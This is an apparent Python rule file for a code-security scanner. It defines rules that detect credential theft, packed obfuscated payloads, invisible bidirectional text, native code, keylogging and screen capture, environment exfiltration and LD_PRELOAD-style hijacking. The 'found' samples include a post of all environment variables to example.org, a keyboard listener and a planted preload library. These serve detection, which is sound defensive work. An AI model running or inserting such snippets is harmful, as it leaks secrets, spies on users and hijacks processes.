"""Rules about what hides from a reader, what looks at the machine and its user, and native code."""

from __future__ import annotations

from ringfence.scanning.effects import Kind, Language, Origin, Trait
from ringfence.scanning.findings import Family
from ringfence.scanning.rule import Rule, When
from ringfence.scanning.rules.examples import python
from ringfence.threat import ThreatLevel

_PY = Language.PYTHON


RULES: tuple[Rule, ...] = (
    Rule(
        "credentials-library",
        "Credentials taken from a key store",
        Family.CREDENTIALS,
        ThreatLevel.MEDIUM,
        "{name} takes keys or passwords out of where they are stored.",
        (When(Kind.ENVIRONMENT, origins=(Origin.CREDENTIALS,), traits=(Trait.HIDDEN,), languages=(_PY,)),),
        found=python(
            "import keyring\nkeyring.get_password('mail', 'ana')",
            "import boto3\nboto3.Session().get_credentials()",
        ),
        ignored=python("import boto3\nboto3.client('s3')", "import keyring"),
        tags=("CWE-522", "T1555"),
        hint="Ask for the one secret that the task needs to be passed in.",
    ),
    Rule(
        "obfuscate-packed",
        "Packed data in the source",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "{name} unpacks data that is encoded and compressed within the source itself, and what it holds cannot be told.",
        (When(Kind.OBFUSCATE, traits=(Trait.PACKED,)),),
        found=python(
            "import base64, zlib\nblob = make()\nshow(zlib.decompress(base64.b64decode(blob)))",
            "import lzma, base64\nlzma.decompress(base64.b85decode(parts[0] + parts[1]))",
        ),
        ignored=python(
            "import gzip\ngzip.decompress(open('x.gz', 'rb').read())",
            "import base64, gzip\ndef handler(event):\n    return gzip.decompress(base64.b64decode(event['data']))",
        ),
        tags=("CWE-506", "T1027.002", "T1140"),
        hint="Put the data in as it is, or in a file.",
    ),
    Rule(
        "obfuscate-invisible",
        "Text that a reader sees otherwise",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "The source ({name}, {value}) shows a reader another text than the one that runs.",
        (
            When(
                Kind.OBFUSCATE,
                traits=(Trait.HIDDEN,),
                names=("bidirectional control", "invisible tag", "coding"),
            ),
        ),
        found=python(
            "access = 'user\u202e \u2066# admin\u2069 \u2066'",
            "x = 1  # \U000e0068\U000e0069",
            "x = '\u2067' ; run()",
        ),
        ignored=python(
            "day = '\u2067\u05d0\u2069'", "greeting = 'gr\u00fc\u00dfe, \u4e16\u754c'", "x = '\\u202e'"
        ),
        tags=("CWE-1007", "T1027"),
        hint="Write the text without control characters.",
    ),
    Rule(
        "native-code",
        "Native code",
        Family.NATIVE,
        ThreatLevel.MEDIUM,
        "{name} calls native code, which no rule about Python holds.",
        (When(Kind.NATIVE),),
        found=python(
            "import ctypes\nctypes.CDLL('libc.so.6').getpid()", "import cffi\ncffi.FFI().dlopen('libm.so')"
        ),
        ignored=python("import math\nmath.sqrt(2)", "import ctypes\nctypes.sizeof(8)"),
        tags=("CWE-111", "T1106"),
        hint="Do without native code, or have the native_code capability granted.",
    ),
    Rule(
        "capture-device",
        "Screen, keyboard or other device captured",
        Family.SURVEILLANCE,
        ThreatLevel.HIGH,
        "{name} records what a person sees, types, says or copies.",
        (When(Kind.CAPTURE),),
        found=python(
            "from PIL import ImageGrab\nImageGrab.grab()",
            "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()",
        ),
        ignored=python("from PIL import Image\nImage.new('RGB', (1, 1))", "name = input('Your name? ')"),
        tags=("CWE-359", "T1113", "T1056.001"),
        hint="Ask the person for what is needed.",
    ),
    Rule(
        "environment-sent",
        "Whole environment sent out",
        Family.EXFILTRATION,
        ThreatLevel.CRITICAL,
        "{name} sends out all environment variables, the usual place of keys and passwords.",
        (When(Kind.CONNECT, origins=(Origin.CREDENTIALS,), traits=(Trait.SENDS,)),),
        found=python(
            "import os, requests\nrequests.post('https://example.org', json=dict(os.environ))",
            "import os, json, urllib.request\nurllib.request.urlopen('https://example.org', data=json.dumps(dict(os.environ)).encode())",
        ),
        ignored=python(
            "import os, requests\nrequests.post('https://example.org', headers={'Authorization': os.environ['KEY']}, json={'a': 1})",
            "import os\nprint(dict(os.environ))",
        ),
        tags=("CWE-200", "T1041", "T1552.001", "ASI02"),
        hint="Send only what the request needs.",
    ),
    Rule(
        "environment-hijack",
        "Variable that makes every program load code",
        Family.PERSISTENCE,
        ThreatLevel.HIGH,
        "{name} sets {value}, which makes programs that are started later load code of somebody's choice.",
        (
            When(
                Kind.ENVIRONMENT,
                names=("*.__setitem__", "os.putenv", "os.environ.setdefault"),
                values=(
                    "LD_PRELOAD",
                    "LD_AUDIT",
                    "DYLD_INSERT_LIBRARIES",
                    "BASH_ENV",
                    "PYTHONSTARTUP",
                    "PERL5OPT",
                    "NODE_OPTIONS",
                    "GIT_SSH_COMMAND",
                ),
            ),
        ),
        found=python(
            "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'", "import os\nos.putenv('BASH_ENV', 'x.sh')"
        ),
        ignored=python("import os\nos.environ['TZ'] = 'UTC'", "import os\nprint(os.environ['LD_PRELOAD'])"),
        tags=("CWE-426", "T1574.006"),
        hint="Start the program without this variable.",
    ),
    Rule(
        "environment-facts",
        "Facts about the machine read",
        Family.SURVEILLANCE,
        ThreatLevel.INFO,
        "{name} reads facts about the machine, its users or its processes.",
        (
            When(
                Kind.ENVIRONMENT,
                names=(
                    "platform.*",
                    "psutil.*",
                    "socket.get*",
                    "os.uname",
                    "os.getlogin",
                    "pwd.*",
                    "grp.*",
                    "spwd.*",
                    "getpass.getuser",
                    "wmi.*",
                    "uuid.getnode",
                ),
            ),
        ),
        found=python("import platform\nplatform.uname()", "import psutil\npsutil.users()"),
        ignored=python("import os\nos.getcwd()", "import sys\nprint(sys.version)"),
        tags=("T1082",),
    ),
)
